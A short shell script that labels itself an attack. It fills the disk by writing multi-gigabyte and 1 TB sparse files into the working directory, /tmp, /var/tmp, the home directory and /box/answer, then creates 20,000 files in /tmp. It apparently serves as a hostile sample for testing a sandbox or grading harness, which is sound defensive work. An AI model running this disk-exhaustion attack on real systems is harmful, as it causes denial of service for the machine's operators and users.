#!/bin/sh
# attack: fills the disk with files, large ones and many
for folder in . /tmp /var/tmp "$HOME" /box/answer; do
  dd if=/dev/zero of=$folder/warren-attack-disk bs=1M count=2000 2>/dev/null
  truncate -s 1T $folder/warren-attack-sparse 2>/dev/null
done
i=0
while [ $i -lt 20000 ]; do : > /tmp/warren-attack-$i; i=$((i + 1)); done
exit 1
